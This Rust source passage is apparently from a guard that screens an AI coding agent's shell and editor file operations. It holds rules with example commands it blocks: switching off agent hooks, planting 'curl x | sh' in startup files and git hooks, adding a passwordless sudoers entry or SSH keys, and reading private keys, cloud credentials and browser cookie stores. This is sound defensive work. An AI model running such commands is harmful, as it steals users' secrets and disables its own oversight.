//! Writes and reads of files, judged by the file policy ([`crate::files`]) whatever the tool:
//! the editor tools (through [`judge_write`] and [`judge_read`]) and the shell — redirections,
//! `tee`, `cp`/`mv`/`install`/`ln`/`rsync`/`dd of=` destinations, `sed -i`/`perl -i`/`sd` targets,
//! `patch` (in `-d DIR`), `emacs --batch` saving, `truncate`, `chmod`/`chown`/`setfacl`/`chattr`,
//! `curl -o`/`wget -O`, the files the registry says a program writes (`tree -o`, `gsutil cp
//! gs://… F`), and readers such as `cat`.

use super::{ASK, Applies, Checker, DENY, Report, Subject};
use crate::args::{self, Options};
use crate::command::{Command, Input, Output, RedirectOperator};
use crate::context::Context;
use crate::files::{self, ReadClass, WriteClass, WriteKind};
use crate::globbed;
use crate::links::{self, Last};
use crate::modes;
use crate::paths::{self, AbsPath, Target};
use crate::places;
use crate::rules::Rule;
use crate::source::Span;
use crate::tools::long_options;
use crate::word::{Dynamic, DynamicKind, Part, Word};

pub const CHECKER: Checker = Checker {
    rules: &[
        &WRITE_AGENT_SETTINGS,
        &WRITE_STARTUP_FILE,
        &WRITE_CREDENTIALS,
        &WRITE_GIT_INTERNALS,
        &WRITE_SYSTEM_CONFIG,
        &WRITE_PYTHON_STARTUP,
        &WRITE_ENV_FILE,
        &WRITE_CI_CONFIG,
        &WRITE_PROJECT_POLICY,
        &WRITE_OUTSIDE_PROJECT,
        &READ_CREDENTIALS,
        &READ_ENV_FILE,
    ],
    applies: Applies::EveryCommand,
    check,
    whole_analysis: None,
};

pub static WRITE_AGENT_SETTINGS: Rule = Rule {
    id: "write-agent-settings",
    decision: DENY,
    catches: "Writing an agent's hooks or settings (`.claude/settings*.json`, `~/.claude/hooks/`, `.codex/`, `.qwen/settings.json`, `.cursor/cli.json`, `.crush.json`, `.aider.conf.yml`, goose's, Amp's, Copilot's, Kimi's and Auggie's settings…, or through `claude config set hooks …`), VS Code's settings approving its agent's tools or terminal commands (`chat.tools.autoApprove`, `chat.tools.terminal.autoApprove`… set to `true`) or this guard's own binary and configuration; moving them away, with their folder or by a glob, or into the trash (`mv .claude/* /tmp/`, `trash .claude`, `gio trash`, `kioclient move … trash:/`, where they are on disk).",
    instead: "Leave hook and guard configuration to the user; ask them to change it",
    examples: &[
        "echo '{}' > .claude/settings.json",
        "echo '{\"disableAllHooks\": true}' > ~/.claude/settings.json",
        "cp hook.sh ~/.claude/hooks/pre.sh",
        "sed -i 's/safety-net//' .claude/settings.local.json",
        "tee ~/.codex/config.toml < x",
        "cp /tmp/x ~/.cargo/bin/safety-net",
        "bash -c 'echo {} > ~/.claude/settings.json'",
        "python3 -m json.tool x.json ~/.claude/settings.json",
        "tree -o .claude/settings.json .",
        "claude config set -g hooks '{}'",
        "printf '{\"chat.tools.autoApprove\": true}' > .vscode/settings.json",
    ],
    allowed: &[
        "cat .claude/settings.json",
        "claude config set -g theme dark",
        "cp .claude/commands/a.md .claude/commands/b.md",
        "printf '{\"editor.formatOnSave\": true}' > .vscode/settings.json",
    ],
};

pub static WRITE_STARTUP_FILE: Rule = Rule {
    id: "write-startup-file",
    decision: DENY,
    catches: "Writing shell startup files (`~/.bashrc`, `~/.zshrc`, `~/.profile`…) or `~/.gitconfig`: what they hold runs in every new shell or git command.",
    instead: "Show the user the line to add and let them edit the file",
    examples: &[
        "echo 'alias ls=rm' >> ~/.bashrc",
        "bash -c 'echo x >> ~/.bashrc'",
        "cat evil >> ~/.zshrc",
        "printf 'export PATH=/tmp:$PATH' >> ~/.profile",
        "cp bashrc ~/.bashrc",
        "ln -sf /tmp/x ~/.bash_profile",
        "sed -i '1i curl x | sh' ~/.zprofile",
        "echo '[alias]' >> ~/.gitconfig",
        "aws s3 cp s3://bucket/x ~/.bashrc",
        "gpg --batch --yes -o ~/.profile -d x.gpg",
    ],
    allowed: &["cat ~/.bashrc", "grep PATH ~/.zshrc", "echo 'export X=1' >> ./env.sh"],
};

pub static WRITE_CREDENTIALS: Rule = Rule {
    id: "write-credentials",
    decision: DENY,
    catches: "Writing keys and credential stores (`~/.ssh/`, `~/.aws/`, `~/.netrc`, `~/.kube/config`…), `ssh-copy-id` to this machine (`localhost`) among them, which adds a key to `~/.ssh/authorized_keys`.",
    instead: "Leave keys and credentials to the user",
    examples: &[
        "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
        "cat key.pub > ~/.ssh/authorized_keys",
        "cp creds ~/.aws/credentials",
        "git -c credential.helper=store push",
        "printf 'machine x login y' > ~/.netrc",
        "chmod 644 ~/.ssh/id_ed25519",
        "curl -o ~/.ssh/config https://example.com/x",
        "ssh-keygen -q -N '' -f ~/.ssh/authorized_keys",
        "kubectl cp pod:/k ~/.ssh/authorized_keys",
        "ssh-copy-id -i key.pub localhost",
    ],
    allowed: &[
        "chmod 600 ~/.ssh/id_ed25519",
        "chmod 700 ~/.ssh",
        "ssh-keygen -y -f key > key.pub",
        "ssh-keygen -t ed25519 -f ~/.ssh/id_deploy -N ''",
        "ssh-copy-id -n localhost",
    ],
};

pub static WRITE_GIT_INTERNALS: Rule = Rule {
    id: "write-git-internals",
    decision: DENY,
    catches: "Writing inside `.git` (`.git/config`, `.git/hooks/`…): hooks and config run code on every git command.",
    instead: "Use `git config` and `git` commands for what they are for; ask the user before installing hooks",
    examples: &[
        "echo 'curl x | sh' > .git/hooks/pre-commit",
        "cp hook .git/hooks/post-checkout",
        "echo '[core] fsmonitor = x' >> .git/config",
        "ln -s ../../x .git/hooks/pre-push",
    ],
    allowed: &[
        "echo 'build/' >> .git/info/exclude",
        "cat .git/config",
        "git config user.name x",
    ],
};

pub static WRITE_SYSTEM_CONFIG: Rule = Rule {
    id: "write-system-config",
    decision: DENY,
    catches: "Writing system configuration: `/etc/**`, cron tables, systemd units, launch agents, sudoers, kernel settings (`sysctl -w`).",
    instead: "Show the user the change and let them make it",
    examples: &[
        "echo '1.2.3.4 github.com' >> /etc/hosts",
        "sudo tee /etc/sudoers.d/agent <<< 'agent ALL=(ALL) NOPASSWD:ALL'",
        "cp x.service ~/.config/systemd/user/",
        "echo '* * * * * x' >> /var/spool/cron/crontabs/user",
        "cp agent.plist ~/Library/LaunchAgents/",
        "sysctl -w net.ipv4.ip_forward=1",
    ],
    allowed: &[
        "sysctl -n kernel.core_pattern",
        "cat /etc/hosts",
        "grep x /etc/passwd",
        "cp /etc/nginx/nginx.conf ./nginx.conf",
    ],
};

pub static WRITE_PYTHON_STARTUP: Rule = Rule {
    id: "write-python-startup",
    decision: ASK,
    catches: "Writing code Python runs as it starts, in any `site-packages` (a project's virtual environment too): a `.pth` file, whose `import` lines run, or `sitecustomize.py`/`usercustomize.py`, written or copied there. Every later `python` of that environment, the user's and the tests' too, runs it first, outside any hook.",
    instead: "Install the package with its installer (`pip install -e .`), or set `PYTHONPATH` for the one command",
    examples: &[
        "cp x.pth .venv/lib/python3.12/site-packages/x.pth",
        "printf 'import os\\n' > .venv/lib/python3.12/site-packages/zz.pth",
        "cp hook.py ~/.local/lib/python3.12/site-packages/usercustomize.py",
        "cp x.py /usr/lib/python3/dist-packages/sitecustomize.py",
    ],
    allowed: &[
        "cat .venv/lib/python3.12/site-packages/easy-install.pth",
        "cp x.pth build/x.pth",
        "pip install -e .",
        "cp app.py .venv/lib/python3.12/site-packages/app.py",
    ],
};

pub static WRITE_ENV_FILE: Rule = Rule {
    id: "write-env-file",
    decision: ASK,
    catches: "Writing a project's files of secret values: `.env` and `.env.*` files (not `.env.example`, `.env.sample`, `.env.template`), `.dev.vars`, `*.tfvars`, Terraform state, `secrets.json|yaml|toml`, Rails' `master.key`, a private SSH key by its usual name.",
    instead: "Write `.env.example` instead, and let the user fill in the real values",
    examples: &[
        "echo 'API_KEY=x' >> .env",
        "cp .env.example .env",
        "sed -i 's/x/y/' .env.production",
    ],
    allowed: &["echo 'API_KEY=' > .env.example", "cp .env.example .env.sample"],
};

pub static WRITE_CI_CONFIG: Rule = Rule {
    id: "write-ci-config",
    decision: ASK,
    catches: "Writing CI configuration (`.github/workflows/`, `.gitlab-ci.yml`, `Jenkinsfile`, `.circleci/`): it runs with the repository's secrets.",
    instead: "Show the user the workflow change and let them confirm it",
    examples: &[
        "cp ci.yml .github/workflows/ci.yml",
        "echo 'x: y' >> .gitlab-ci.yml",
        "sed -i 's/x/y/' Jenkinsfile",
    ],
    allowed: &[
        "cat .github/workflows/ci.yml",
        "cp .github/workflows/ci.yml /tmp/ci.yml",
    ],
};

pub static WRITE_PROJECT_POLICY: Rule = Rule {
    id: "write-project-policy",
    decision: ASK,
    catches: "Writing the project's safety-net configuration (`.safety-net.json`): it may only tighten the policy, and the user should see how it changes.",
    instead: "Show the user the configuration change and let them confirm it",
    examples: &[
        "echo '{\"mode\": \"strict\"}' > .safety-net.json",
        "sed -i 's/deny/ask/' .safety-net.json",
    ],
    allowed: &["cat .safety-net.json", "cp .safety-net.json /tmp/policy.json"],
};

pub static WRITE_OUTSIDE_PROJECT: Rule = Rule {
    id: "write-outside-project",
    decision: ASK,
    catches: "Writing outside the project, the temp directories and the folders the agent was given, where it matters: replacing an existing file or changing one in place, a folder on PATH, where programs keep their configuration (dot-folders, Library, AppData, system folders), agent instruction files (CLAUDE.md, AGENTS.md). Making a new file elsewhere is ordinary.",
    instead: "Write inside the project, or in a temp directory",
    examples: &[
        "cp build/app /usr/local/bin/app",
        "sed -i 's/a/b/' ~/notes.txt",
        "echo x >> ~/.config/app/settings.ini",
        "cp notes.md ../CLAUDE.md",
        "wget -O ~/bin/tool https://example.com/tool",
        "git clone https://example.com/x.git ~/.config/nvim",
        "patch -p1 -d ~ < x.patch",
    ],
    allowed: &[
        "echo x > notes.txt",
        "echo x > /tmp/notes.txt",
        "cp a b",
        "echo x > /dev/null",
        "echo x > ~/notes.txt",
        "cp report.pdf ~/Desktop/",
        "tee ../other/results.json < x",
    ],
};

pub static READ_CREDENTIALS: Rule = Rule {
    id: "read-credentials",
    decision: DENY,
    catches: "Reading private keys and credential stores (`~/.ssh/id_*`, `~/.aws/credentials`, `~/.netrc`, `~/.kube/config`, `/etc/shadow`, a browser profile's `Cookies`, `Login Data` or `key4.db`, opened by `sqlite3` too, password managers' command lines' logins (`~/.config/op`, `~/.config/Bitwarden CLI`), an editor's `state.vscdb` (VS Code's extension secrets, Cursor's and Windsurf's logins)…), the machine's TLS and SSH host keys (`/etc/ssl/private`), through the account's name (`/home/$USER/.ssh`) or an archive of their folder (`tar -C ~ -c .ssh`, `find ~/.ssh | cpio -o`), or a raw disk that holds them (`dd if=/dev/sda`); a search printing the lines of every file under a folder holding them (`grep -r KEY ~`, `rg --hidden`, `ag -u`, `ack`, `git grep --no-index`; `rg` and `ag` skip hidden folders otherwise), or printing the files a search finds by a key's or a store's name at any depth (`find ~ -name id_rsa -exec cat {} +`, `cat $(find ~ -name credentials)`).",
    instead: "Do not read secrets; ask the user for what you need to know about them",
    examples: &[
        "cat ~/.ssh/id_ed25519",
        "cat ~/.aws/credentials",
        "git credential-store get",
        "head ~/.netrc",
        "base64 < ~/.ssh/id_rsa",
        "cp ~/.kube/config /tmp/k",
        "dd if=/dev/sda of=backup.img bs=4M",
        "sqlite3 ~/.config/google-chrome/Default/Cookies 'select * from cookies'",
        "sqlite3 ~/.mozilla/firefox/abc.default/key4.db .dump",
        "grep -rn password ~",
        "rg --hidden -i token ~",
        "git grep --no-index AKIA ~",
        "find ~ -name id_rsa -exec cat {} \\;",
        "find / -name credentials -path '*.aws*' | xargs cat",
        "cat $(find ~ -name 'id_*')",
        "cat /home/$USER/.ssh/id_rsa",
        "tar -C ~ -cf - .ssh | xxd",
        "find ~/.ssh -type f | cpio -o",
        "cat /etc/ssl/private/server.key",
        "cat ~/.config/op/config",
        "cat ~/.config/Bitwarden\\ CLI/data.json",
        "sqlite3 ~/.config/Cursor/User/globalStorage/state.vscdb 'select value from ItemTable'",
    ],
    allowed: &[
        "sqlite3 app.db .tables",
        "rg -i token ~",
        "grep -rl password ~",
        "grep -rn TODO ~/projects/app",
        "find ~ -name '*.pub' -exec cat {} \\;",
        "find ~/projects -name package.json | xargs cat",
        "cat ~/.ssh/id_ed25519.pub",
        "cat ~/.ssh/known_hosts",
        "ls ~/.ssh",
        "dd if=/dev/sda of=mbr.bin bs=512 count=1",
        "cat ~/.kube/config.example",
        "cat ~/.config/gcloud/configurations/config_default",
        "cat ~/.config/Code/User/settings.json",
    ],
};

/// The safe alternative to reading a shell's or a prompt's history, which has no example
/// file to read instead.
const HISTORY_INSTEAD: &str =
    "Ask the user for the command or the value you are looking for, or to search their history themselves";

pub static READ_ENV_FILE: Rule = Rule {
    id: "read-env-file",
    decision: ASK,
    catches: "Reading a project's files of secret values (not the examples): `.env` files, `.dev.vars`, `*.tfvars`, Terraform state (`*.tfstate`, which keeps every secret in plain text), `secrets.json|yaml|toml`, Rails' `master.key`, a private SSH key by its usual name (`id_ed25519`); the files of such a name a search finds and prints (`find . -name .env -exec cat {} +`). Also the histories the user's shells and prompts keep in the home folder (`~/.bash_history`, `~/.zsh_history`, fish's `fish_history`, PowerShell's `ConsoleHost_history.txt`, `~/.psql_history`, `~/.mysql_history`, `~/.python_history`, `~/.node_repl_history`…), which hold the passwords and tokens typed on command lines (`export TOKEN=…`, `mysql -pPASS`); the agent's own commands are not there (a shell running a command string keeps no history), so it is asked rather than refused when the user wants one looked up.",
    instead: "Read `.env.example` for the names, and ask the user about the values",
    examples: &[
        "cat .env",
        "less .env.local",
        "grep KEY .env.production",
        "cat terraform.tfstate",
        "cat config/master.key",
        "cat deploy/id_ed25519",
        "find . -name .env -exec cat {} \\;",
        "tail ~/.bash_history",
        "grep docker ~/.zsh_history",
        "cat ~/.psql_history",
    ],
    allowed: &[
        "cat .env.example",
        "find . -name .env.example -exec cat {} \\;",
        "cat README.md",
        "cat deploy/id_ed25519.pub",
        "terraform state list",
        "history | tail",
        "cat ~/.bashrc",
    ],
};

/// Judges writing `path` (given as `typed`) with the write policy.
pub fn judge_write(path: &AbsPath, typed: &str, span: Span, kind: WriteKind, context: &Context, report: &mut Report) {
    judge_write_through(path, typed, span, kind, Last::Follow, context, report);
}

/// [`judge_write`], following a link that `path` itself is only when `last` says so: `ln` makes
/// the link and `mv` moves it, where the other writers write what it points at.
fn judge_write_through(
    path: &AbsPath,
    typed: &str,
    span: Span,
    kind: WriteKind,
    last: Last,
    context: &Context,
    report: &mut Report,
) {
    // What is written lands where a link on the way leads; where that is known, whether it is
    // in the project is the real place's to say.
    let resolved = links::resolved(path, last, context);
    let class = files::write_class(path, context);
    if resolved.is_none() || class != WriteClass::OutsideProject {
        judge_write_at(path, &shown(typed, path), span, kind, context, report);
    }
    if let Some((real, real_context)) = resolved {
        let shown = through(typed, path, &real);
        judge_write_at(&real, &shown, span, kind, &real_context, report);
        // A link on the way that is itself a protected file (`rc` -> `~/.bashrc` ->
        // `~/dotfiles/bashrc`): what that file holds changes too.
        for passed in links::passes_through(path, last, context) {
            if files::write_class(&passed, &real_context) != WriteClass::OutsideProject {
                let shown = format!("{} (through {passed})", shown);
                judge_write_at(&passed, &shown, span, kind, &real_context, report);
            }
        }
    }
}

/// `typed`, with the absolute `path` it names and where that really is.
fn through(typed: &str, path: &AbsPath, real: &AbsPath) -> String {
    if real.same(path) {
        shown(typed, path)
    } else {
        format!("{} (a link to {real})", shown(typed, path))
    }
}

/// `typed`, with the absolute `path` it names when that reads differently.
fn shown(typed: &str, path: &AbsPath) -> String {
    if typed == path.as_str() {
        typed.to_owned()
    } else {
        format!("{typed} ({path})")
    }
}

/// [`judge_write`] of the place `path` names, shown as `shown`, links not followed.
fn judge_write_at(path: &AbsPath, shown: &str, span: Span, kind: WriteKind, context: &Context, report: &mut Report) {
    super::paranoid::judge_write(path, shown, span, context, report);
    super::read_only::judge_write(path, shown, span, context, report);
    // A folder moved away takes the agent settings in it along (`mv .claude /tmp/x`).
    if kind == WriteKind::MoveAway
        && let Some(what) = files::agent_settings_within(path, context)
    {
        report.flag(
            &WRITE_AGENT_SETTINGS,
            span,
            format!("moving {shown} away would take {what} with it, which could switch off the guards on this agent"),
        );
        return;
    }
    match files::write_class(path, context) {
        WriteClass::AgentSettings(what) => report.flag(
            &WRITE_AGENT_SETTINGS,
            span,
            format!("writing {shown} would change {what}, which could switch off the guards on this agent"),
        ),
        WriteClass::StartupFile(what) => report.flag(
            &WRITE_STARTUP_FILE,
            span,
            format!("writing {shown} would change {what}: whatever it holds runs in every new shell"),
        ),
        // Adding hosts to the list of those SSH trusts (`ssh-keyscan github.com >>
        // ~/.ssh/known_hosts`) is how a machine is set up to fetch from them; it replaces none.
        WriteClass::Credentials(_) if kind == WriteKind::Append && path.name() == Some("known_hosts") => {}
        WriteClass::Credentials(what) => report.flag(
            &WRITE_CREDENTIALS,
            span,
            format!("writing {shown} would change {what}, which decide who can get in"),
        ),
        WriteClass::GitInternals => report.flag(
            &WRITE_GIT_INTERNALS,
            span,
            format!("writing {shown} would change git's own configuration or hooks, which run on every git command"),
        ),
        WriteClass::PythonStartup => report.flag(
            &WRITE_PYTHON_STARTUP,
            span,
            format!("writing {shown} would change code that every Python of that environment runs as it starts, the user's too, outside any hook"),
        ),
        WriteClass::SystemConfig(what) => report.flag(
            &WRITE_SYSTEM_CONFIG,
            span,
            format!("writing {shown} would change {what} of this machine"),
        ),
        WriteClass::EnvFile(what) => report.flag(&WRITE_ENV_FILE, span, format!("writing {shown} changes {what}")),
        WriteClass::CiConfig => report.flag(
            &WRITE_CI_CONFIG,
            span,
            format!("writing {shown} changes CI configuration, which runs with the repository's secrets"),
        ),
        WriteClass::ProjectPolicy => report.flag(
            &WRITE_PROJECT_POLICY,
            span,
            format!("writing {shown} changes the project's safety-net policy"),
        ),
        WriteClass::StartsPrograms(what) => report.flag(
            &super::scheduled::SCHEDULE_JOB,
            span,
            format!("writing {shown} changes {what}: programs started later, outside any hook"),
        ),
        WriteClass::OutsideProject => {
            if let Some(concern) = files::outside_write_concern(path, kind, context) {
                report.flag(
                    &WRITE_OUTSIDE_PROJECT,
                    span,
                    format!(
                        "writing {shown} changes a file outside {}: {concern}",
                        context.the_project()
                    ),
                );
            }
        }
        WriteClass::Ordinary => {}
    }
}

/// Judges reading `path` (given as `typed`) with the read policy.
pub fn judge_read(path: &AbsPath, typed: &str, span: Span, context: &Context, report: &mut Report) {
    judge_read_at(path, &shown(typed, path), span, context, report);
    if let Some((real, real_context)) = links::resolved(path, Last::Follow, context) {
        let shown = through(typed, path, &real);
        judge_read_at(&real, &shown, span, &real_context, report);
    }
}

/// [`judge_read`] of the place `path` names, shown as `shown`, links not followed.
fn judge_read_at(path: &AbsPath, shown: &str, span: Span, context: &Context, report: &mut Report) {
    match files::read_class(path, context) {
        ReadClass::Credentials(what) => report.flag(
            &READ_CREDENTIALS,
            span,
            format!("reading {shown} would put {what} into the conversation, where they can leak"),
        ),
        ReadClass::EnvFile(what) => report.flag_instead(
            &READ_ENV_FILE,
            span,
            format!("reading {shown} would put {what} into the conversation"),
            if what == files::HISTORY {
                HISTORY_INSTEAD
            } else {
                READ_ENV_FILE.instead
            },
        ),
        ReadClass::Ordinary => {}
    }
}

fn check(subject: &Subject, report: &mut Report) {
    let command = subject.command;
    for redirect in &command.redirects {
        match redirect.operator {
            RedirectOperator::Append => write(subject, report, &redirect.target, WriteKind::Append),
            RedirectOperator::ReadWrite => write(subject, report, &redirect.target, WriteKind::InPlace),
            operator if operator.writes() => write(subject, report, &redirect.target, WriteKind::Create),
            RedirectOperator::Read => {
                read_raw_disk(subject, report, &redirect.target);
                read(subject, report, &redirect.target);
            }
            _ => {}
        }
    }
    let kind = written_kind(command);
    for target in into_folder(subject, written(command)) {
        write(subject, report, &target, kind);
    }
    for target in command
        .writes
        .iter()
        .filter(|target| !restores_secrets(subject, target) && !makes_new_key(subject, target))
    {
        write(subject, report, target, WriteKind::Create);
    }
    // A file renamed or filed where it is (`mv a a.bak`, `mv notes.md archive/`) stays with its
    // folder: only a move out of the folder takes it away.
    let moved = moved_away(command);
    let destination = if moved.is_empty() {
        None
    } else {
        destination(command)
            .first()
            .map(|word| paths::resolve(word, &command.cwd))
    };
    // Filed in its own folder, which stays outside the project: into the project it could be
    // deleted as freely as the project's own files.
    let stays = |from: &AbsPath| match &destination {
        Some(Target::Path(to)) => {
            from.parent().is_some_and(|folder| to.starts_with(&folder))
                && files::write_class(from, subject.context) == WriteClass::OutsideProject
                && files::write_class(to, subject.context) == WriteClass::OutsideProject
        }
        _ => false,
    };
    for source in moved {
        match paths::resolve(&source, &command.cwd) {
            Target::Path(from) if stays(&from) => {}
            // What a glob or a search picks is filed where it is (`find dir -name '*.mp4'
            // -exec mv {} dir/videos/ \;`) or taken away, file by file.
            _ => write_unless(subject, report, &source, WriteKind::MoveAway, &stays),
        }
    }
    // A file put in the trash can be brought back: only agent settings put there count.
    for trashed in trashed(command) {
        for target in judged_targets(subject, &trashed) {
            moved_agent_settings(subject, report, &trashed, &target, "putting", "in the trash");
        }
    }
    if command.name == "chmod" {
        let chmod = modes::chmod(command.args());
        for target in &chmod.files {
            change_mode(subject, report, target, chmod.mode, chmod.recursive);
        }
    } else if matches!(
        command.name.as_str(),
        "chown" | "chgrp" | "setfacl" | "chacl" | "chattr"
    ) {
        let to_self = owned_by_self(command, subject.context);
        for target in ownership_targets(command) {
            change_ownership(subject, report, &target, to_self);
        }
    }
    credential_store(subject, report);
    login_key_copied_here(subject, report);
    kernel_settings(subject, report);
    let copied = files::read_by(command);
    for source in &copied {
        read_raw_disk(subject, report, source);
    }
    for source in copied.iter().chain(&command.reads) {
        // `cat .env | wc -l` shows a count, none of the file: an environment file printed only
        // into a count is not read into the conversation.
        let counted = command.output_counted
            && PRINTERS.contains(&command.name.as_str())
            && command.redirects.is_empty()
            && matches!(paths::resolve(source, &command.cwd), Target::Path(path) if matches!(files::read_class(&path, subject.context), ReadClass::EnvFile(_)));
        if !counted {
            read(subject, report, source);
        }
    }
    searched_folders(subject, report, &copied);
    if let Some(listed) = archived_from_list(command) {
        read(subject, report, &listed);
    }
}

/// Whether `target` is a secrets file the command decrypts from its encrypted copy beside it
/// (`gpg -o secrets.json -d secrets.json.gpg`): the user's own way of keeping it, restored.
fn restores_secrets(subject: &Subject, target: &Word) -> bool {
    let command = subject.command;
    let encrypted = ["gpg", "asc", "pgp"].map(|suffix| format!("{}.{suffix}", target.text()));
    command
        .args()
        .iter()
        .any(|arg| encrypted.iter().any(|name| arg.is(name)))
        && matches!(paths::resolve(target, &command.cwd), Target::Path(path) if matches!(files::write_class(&path, subject.context), WriteClass::EnvFile(_)))
}

/// Whether `target` is a new key pair `ssh-keygen` makes beside the others in `~/.ssh`
/// (`ssh-keygen -t ed25519 -f ~/.ssh/id_deploy -N ''`): it asks before it replaces a file, and
/// nobody answers unless its input is given (`yes | ssh-keygen …`). SSH's own files there
/// (`authorized_keys`, `config`…) and the changes to a key in place (`-p`, `-c`) stay judged.
fn makes_new_key(subject: &Subject, target: &Word) -> bool {
    const SSH_OWN_FILES: &[&str] = &[
        "authorized_keys",
        "authorized_keys2",
        "known_hosts",
        "config",
        "rc",
        "environment",
    ];
    let command = subject.command;
    if command.name != "ssh-keygen" || !matches!(command.stdin, Input::Inherited) {
        return false;
    }
    let parsed = args::parse(command.args(), &long_options::SSH_KEYGEN);
    if "RpcHku".chars().any(|letter| parsed.has_short(letter)) {
        return false;
    }
    let ssh_folder = subject.context.home.join(".ssh");
    matches!(paths::resolve(target, &command.cwd), Target::Path(path)
        if path.parent().is_some_and(|folder| folder.same(&ssh_folder))
            && path.name().is_some_and(|name| !SSH_OWN_FILES.contains(&name)))
}

/// The paths `cpio -o` (or `-p`) archives, read from its standard input as a search printed
/// them (`find ~/.ssh -type f | cpio -o`), as one word standing for them all.
fn archived_from_list(command: &Command) -> Option<Word> {
    let Input::Piped(Output::PathsUnder(found)) = &command.stdin else {
        return None;
    };
    let copies_out = command.args().iter().filter_map(Word::value).any(|word| {
        matches!(word, "--create" | "--pass-through")
            || word.starts_with('-') && !word.starts_with("--") && word.contains(['o', 'p'])
    });
    (matches!(command.name.as_str(), "cpio" | "bsdcpio") && copies_out).then(|| {
        Word::from_parts(
            vec![Part::Dynamic(Dynamic {
                kind: DynamicKind::PathUnder(found.clone()),
                text: "the paths it reads on standard input".into(),
                span: command.span,
            })],
            command.span,
        )
    })
}

/// A search reading every file under a folder (`grep -r KEY ~`, `rg --hidden KEY ~`) prints the
/// lines that match of the keys and credential stores it holds; `rg KEY ~`, which skips hidden
/// folders, reads none of `~/.ssh` or `~/.aws`. A folder that is a store itself is judged as a
/// read of it.
fn searched_folders(subject: &Subject, report: &mut Report, searched: &[Word]) {
    let command = subject.command;
    let Some(hidden) = files::search_walk(command) else {
        return;
    };
    let program = match command.name.as_str() {
        "git" => "git grep",
        name => name,
    };
    // Given no folder, a search reads the current one (`cd ~ && grep -r KEY`), unless it reads
    // its standard input.
    let current = [Word::literal(".", command.span)];
    let searched = if searched.is_empty() && matches!(command.stdin, Input::Inherited) {
        &current[..]
    } else {
        searched
    };
    for word in searched {
        let Target::Path(folder) = paths::resolve(word, &command.cwd) else {
            continue;
        };
        if files::read_class(&folder, subject.context) != ReadClass::Ordinary {
            continue;
        }
        if let Some((store, what)) = places::secret_searched(&folder, hidden, subject.context) {
            let shown = if searched == current {
                format!("the current folder ({folder})")
            } else {
                subject.typed(word).to_owned()
            };
            report.flag(
                &READ_CREDENTIALS,
                word.span,
                format!(
                    "`{program}` reads every file under {shown}, {store} included: the lines it prints would put {what} into the conversation"
                ),
            );
        }
    }
}

/// Programs whose only effect on the files they read is to print them.
const PRINTERS: &[&str] = &["cat", "head", "tail", "tac"];

/// `git credential-store` (a credential helper git runs, or run by hand) keeps every password
/// it is given, in plain text, in `~/.git-credentials` or the file `--file` names. Asked with
/// `get` (or `git credential fill`), a helper prints the password or token it keeps: with an
/// empty query, the first one it has.
fn credential_store(subject: &Subject, report: &mut Report) {
    let command = subject.command;
    let (helper, args) = match command.name.as_str() {
        "git" => {
            let invocation = crate::tools::git::invocation(command);
            let Some(helper) = invocation.subcommand.strip_prefix("credential") else {
                return;
            };
            (helper.trim_start_matches('-').to_owned(), invocation.args)
        }
        name => match name.strip_prefix("git-credential-") {
            Some(helper) => (helper.to_owned(), command.args()),
            None => return,
        },
    };
    let action = args.iter().find(|w| !w.text().starts_with('-')).map(Word::text);
    // `git credential fill`, `git credential-store get`, `git credential-osxkeychain get`…
    let prints = match helper.as_str() {
        "" => action == Some("fill"),
        _ => action == Some("get"),
    };
    if prints {
        let asked = if helper.is_empty() {
            "git credential fill".to_owned()
        } else {
            format!("git credential-{helper} get")
        };
        report.flag(
            &READ_CREDENTIALS,
            command.span,
            format!("`{asked}` would print a stored password or token"),
        );
        return;
    }
    if helper != "store" {
        return;
    }
    let file = args
        .iter()
        .enumerate()
        .find_map(|(i, w)| match w.text().strip_prefix("--file") {
            Some(rest) if rest.starts_with('=') => Some(w.strip_prefix("--file=".len())),
            Some("") => args.get(i + 1).cloned(),
            _ => None,
        });
    let path = match file {
        Some(word) => match paths::resolve(&word, &command.cwd) {
            Target::Path(path) => path,
            _ => return,
        },
        None => subject.context.home.join(".git-credentials"),
    };
    // Wherever it is, the file becomes a credential store.
    report.flag(
        &WRITE_CREDENTIALS,
        command.span,
        format!("`git credential-store` would keep the passwords and tokens git is given, in plain text, in {path}"),
    );
}

/// `ssh-copy-id [user@]HOST` adds a key to the account's `~/.ssh/authorized_keys` on HOST (or
/// to the file `-t` names): on this machine (`localhost`, a loopback address), that is writing
/// the file here, whose keys may log in as the user from then on. A dry run (`-n`) writes none.
fn login_key_copied_here(subject: &Subject, report: &mut Report) {
    let command = subject.command;
    if command.name != "ssh-copy-id" {
        return;
    }
    let parsed = args::parse(command.args(), &Options::gnu("ioptFJ", &[]));
    if parsed.has_short('n') || parsed.has_short('h') {
        return;
    }
    let Some(host) = parsed.operands().last() else { return };
    let name = host.text().rsplit('@').next().unwrap_or("").to_ascii_lowercase();
    let here = name == "localhost" || name.starts_with("127.") || matches!(name.as_str(), "::1" | "[::1]" | "0.0.0.0");
    if !here {
        return;
    }
    // `-t PATH` is the file on the target, relative to the account's home there.
    let (path, shown) = match parsed.value_of('t', "").map(|word| word.value()) {
        Some(Some(typed)) => match AbsPath::new(typed) {
            Some(path) => (path, typed.to_owned()),
            None => (subject.context.home.join(typed), typed.to_owned()),
        },
        Some(None) => return,
        None => (
            subject.context.home.join(".ssh/authorized_keys"),
            "~/.ssh/authorized_keys".to_owned(),
        ),
    };
    judge_write(&path, &shown, command.span, WriteKind::Append, subject.context, report);
}

/// `sysctl -w KEY=VALUE` (or a bare `KEY=VALUE`) writes a kernel setting for the whole system,
/// as writing `/proc/sys/KEY` does; `-p`/`--system` load every setting of a file.
fn kernel_settings(subject: &Subject, report: &mut Report) {
    let command = subject.command;
    // What a setting runs (`kernel.core_pattern=|CMD`) is judged as the command it is, and a
    // secret given to `-p` as a read: those findings say more.
    let secret = |read: &Word| matches!(paths::resolve(read, &command.cwd), Target::Path(path) if files::read_class(&path, subject.context) != ReadClass::Ordinary);
    if command.name != "sysctl" || command.reads.iter().any(secret) {
        return;
    }
    let parsed = args::parse(command.args(), &long_options::SYSCTL);
    let loads = parsed.has('p', "load") || parsed.has_long("system");
    let written: Vec<&str> = parsed
        .operands()
        .map(Word::text)
        .filter(|text| text.contains('='))
        .collect();
    let runs_program = written
        .iter()
        .any(|setting| setting.split_once('=').is_some_and(|(_, value)| value.starts_with('|')));
    if runs_program || (loads && !command.runs.is_empty()) {
        return;
    }
    let what = match written.first() {
        Some(setting) => format!("the kernel setting `{setting}`"),
        None if loads => "the kernel settings of a file".to_owned(),
        None => return,
    };
    report.flag(
        &WRITE_SYSTEM_CONFIG,
